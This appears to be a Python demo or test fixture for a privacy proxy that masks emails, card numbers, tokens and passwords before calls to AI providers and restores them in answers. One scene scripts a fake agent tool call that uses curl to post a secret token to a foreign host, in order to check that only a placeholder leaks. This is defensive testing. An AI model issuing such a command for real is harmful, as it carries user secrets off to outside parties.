"""What the tour shows: calls with values that must not leave, and what has to come of them."""

from dataclasses import dataclass

from addons.demo.calls import Api

MAIL = "jane.doe@corp-mail.com"
CARD = "4539 1488 0343 6467"
# Put together here, so that nobody's scanner takes it for a key that was left lying about.
KEY = "ghp_" + "x7Kp2mQ9vT4sL8wZ1nB6" + "cR3yH5jD0fGaVeUq"
PASSWORD = "Tr0ub4dor&3-horse"
PLANTED = (MAIL, CARD, KEY, PASSWORD)


@dataclass(frozen=True)
class Scene:
    """`text` is what the program says; `script` tells the fake provider what to answer and is not shown.

    `back`: values that the program must get back; `kept`: values that must not be in the answer though they were masked.
    `again`: the program asks the very same a second time, and must get the same answer without the provider being asked.
    """

    title: str
    remark: str
    api: Api
    text: str
    script: str = ""
    stream: bool = False
    back: tuple[str, ...] = ()
    kept: tuple[str, ...] = ()
    again: bool = False


SCENES = (
    Scene(
        "A chat",
        "Personal data and secrets leave as placeholders; the answer has the real values again.",
        "anthropic",
        f"I am {MAIL}, my card is {CARD} and my GitHub token is {KEY}.",
        back=(MAIL, CARD, KEY),
    ),
    Scene(
        "A stream",
        "A stream stays a stream: placeholders are restored although they come in pieces.",
        "openai",
        f"The password is {PASSWORD}, and my address is {MAIL}.",
        script="[[slow 5ms]]",
        stream=True,
        back=(PASSWORD, MAIL),
    ),
    Scene(
        "A tool that writes a file",
        "The file gets the real value: programs go on working.",
        "anthropic",
        f"Put {MAIL} into contact.txt.",
        script='[[tool Write {"file_path": "contact.txt", "content": "$VALUE"}]]',
        stream=True,
        back=(MAIL,),
    ),
    Scene(
        "A tool that sends it elsewhere",
        "A command to a host that had no part in the request gets the placeholder: nothing is carried off.",
        "anthropic",
        f"Mind that the GitHub token is {KEY}.",
        script='[[tool Bash {"command": "curl $FOREIGN --data $VALUE"}]]',
        kept=(KEY,),
    ),
    Scene(
        "The same question again",
        "What was answered once need not be paid for twice: the cache keeps the placeholders, and the values come back in.",
        "anthropic",
        f"Whom do I write to? My address is {MAIL}.",
        back=(MAIL,),
        again=True,
    ),
)
